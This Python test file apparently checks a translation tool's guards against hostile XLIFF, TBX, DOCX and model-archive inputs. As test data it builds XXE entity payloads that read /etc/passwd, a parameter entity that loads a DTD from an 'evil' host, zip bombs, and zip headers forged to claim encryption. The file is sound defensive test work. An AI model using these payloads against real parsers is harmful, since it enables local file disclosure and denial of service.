"""The XML entity guard and the zip guard, attacked the ways the issue found them walked around."""

import io
import struct
import zipfile

import pytest

from glossary import cli, models
from glossary.errors import InputError, ModelError
from glossary.formats import read_document
from glossary.safezip import DOCUMENT, open_zip

from .test_models import GOOD_META

XXE = '<!DOCTYPE xliff [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XLIFF = (
    '<?xml version="1.0" encoding="{enc}"?>\n{pad}{doctype}\n'
    '<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file original="a" source-language="de" '
    'target-language="en" datatype="plaintext"><body><trans-unit id="1"><source>&xxe;Der Hund.</source></trans-unit>'
    "</body></file></xliff>\n"
)


@pytest.mark.parametrize(
    "encoding, pad",
    [
        ("UTF-8", ""),
        ("UTF-8", "<!--" + "x" * 70_000 + "-->\n"),
        ("UTF-16", ""),
        ("UTF-16", "<!--" + "y" * 70_000 + "-->\n"),
    ],
)
def test_entity_declarations_are_refused_anywhere_in_any_encoding(tmp_path, capsys, encoding, pad, demo_package):
    src = tmp_path / "in"
    src.mkdir()
    text = XLIFF.format(enc=encoding, pad=pad, doctype=XXE)
    if pad:  # a comment before the DOCTYPE is not allowed by XML; put it inside the internal subset instead
        text = XLIFF.format(enc=encoding, pad="", doctype=XXE.replace("[", "[" + pad, 1))
    (src / "a.xlf").write_bytes(text.encode(encoding.lower()))
    out = tmp_path / "out"
    assert cli.main(["translate", str(src), "-o", str(out), "--no-memory", "-q"]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "a.xlf" in err[0] and "entity" in err[0], err
    assert not (out / "a.xlf").exists()


def test_parameter_entities_and_tbx_import_are_refused(tmp_path, capsys):
    tbx = tmp_path / "x.tbx"
    tbx.write_text(
        '<?xml version="1.0"?><!DOCTYPE martif [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]>'
        '<martif type="TBX"><text><body><termEntry><langSet xml:lang="de"><tig><term>Sicherheitsrat</term></tig></langSet>'
        "</termEntry></body></text></martif>",
        encoding="utf-8",
    )
    out = tmp_path / "g.tsv"
    assert cli.main(["import", str(tbx), "-o", str(out)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "x.tbx" in err[0] and "entity" in err[0]
    assert not out.exists()


def test_ordinary_doctype_of_tmx_and_tbx_is_accepted(tmp_path):
    tmx = tmp_path / "omegat.tmx"
    tmx.write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n<tmx version="1.4"><header creationtool="OmegaT" '
        'o-tmf="OmegaT TMX" adminlang="EN-US" datatype="plaintext" creationtoolversion="6" segtype="sentence" srclang="de"/>'
        '<body><tu><tuv xml:lang="de"><seg>Der Hund schläft.</seg></tuv></tu></body></tmx>\n',
        encoding="utf-8",
    )
    assert [s.source for s in read_document(tmx).segments] == ["Der Hund schläft."]
    tbx = tmp_path / "t.tbx"
    tbx.write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">\n<martif type="TBX" xml:lang="de">'
        '<text><body><termEntry id="1"><langSet xml:lang="de"><tig><term>Weltraumbahnhof</term></tig></langSet>'
        '<langSet xml:lang="en"><tig><term>cosmodrome</term></tig></langSet></termEntry></body></text></martif>\n',
        encoding="utf-8",
    )
    from glossary.exchange import import_glossary

    entries = import_glossary(tbx).glossary.entries
    assert [(e.source, e.target) for e in entries] == [("Weltraumbahnhof", "cosmodrome")]


def _docx_bytes(**replace) -> bytes:
    import docx

    d = docx.Document()
    d.add_paragraph("Der Hund schläft.")
    buf = io.BytesIO()
    d.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            data = src.read(info)
            if info.filename in replace:
                data = replace[info.filename](data)
            zf.writestr(info.filename, data)
    return out.getvalue()


def test_docx_member_with_xxe_or_a_bomb_is_refused(tmp_path):
    xxe = tmp_path / "xxe.docx"
    xxe.write_bytes(
        _docx_bytes(
            **{
                "word/document.xml": lambda d: d.replace(
                    b"?>", b'?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1
                )
            }
        )
    )
    with pytest.raises(InputError, match=r"xxe.docx: word/document.xml: XML with entity"):
        read_document(xxe)
    bomb = tmp_path / "bomb.docx"
    bomb.write_bytes(
        _docx_bytes(**{"word/document.xml": lambda d: d.replace(b"<w:body>", b"<w:body>" + b" " * (64 * 1024**2), 1)})
    )
    assert bomb.stat().st_size < 1024**2
    with pytest.raises(InputError, match=r"bomb.docx: member 'word/document.xml' expands \d+×"):
        read_document(bomb)


def test_model_bomb_split_over_many_members_is_refused(no_model, tmp_path):
    path = tmp_path / "split.argosmodel"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("m/metadata.json", GOOD_META)
        zf.writestr("m/model/model.bin", b"x")
        zf.writestr("m/sentencepiece.model", b"x")
        for k in range(20):
            zf.writestr(f"m/pad{k}.bin", b"\0" * (4 * 1024**2))  # each below the per-member floor
    with pytest.raises(ModelError, match="in all"):
        models.install_file(path)
    assert list(no_model.iterdir()) == []


def _patch_central_directory(data: bytes, *, flag: int | None = None, method: int | None = None) -> bytes:
    data = bytearray(data)
    at = data.index(b"PK\x01\x02")
    if flag is not None:
        struct.pack_into("<H", data, at + 8, flag)
    if method is not None:
        struct.pack_into("<H", data, at + 10, method)
    return bytes(data)


@pytest.mark.parametrize("patch, words", [({"flag": 1}, "encrypted"), ({"method": 99}, "compression method 99")])
def test_encrypted_or_unreadable_members_are_one_line(tmp_path, capsys, patch, words, no_model):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("m/metadata.json", GOOD_META)
    path = tmp_path / "odd.argosmodel"
    path.write_bytes(_patch_central_directory(buf.getvalue(), **patch))
    assert cli.main(["models", "install", str(path)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and words in err[0] and "odd.argosmodel" in err[0]
    doc = tmp_path / "odd.docx"
    doc.write_bytes(path.read_bytes())
    with pytest.raises(InputError, match=words):
        open_zip(doc, DOCUMENT)
